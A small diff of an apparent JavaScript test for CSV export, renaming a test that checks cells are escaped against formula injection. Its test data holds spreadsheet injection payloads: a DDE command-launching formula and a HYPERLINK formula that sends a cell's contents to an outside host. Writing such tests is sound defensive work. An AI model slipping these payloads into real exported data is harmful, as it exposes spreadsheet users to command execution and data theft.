@@ -36,7 +36,7 @@ describe('a CSV record', () => {
     '＠x',
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://example.org/?"&A1,"x")',
-  ])('of %j runs nowhere', (cell) => {
+  ])('of %j starts no formula', (cell) => {
     expect(parseCsv(csvRecord([cell]))).toEqual([[`'${cell}`]])
   })
 
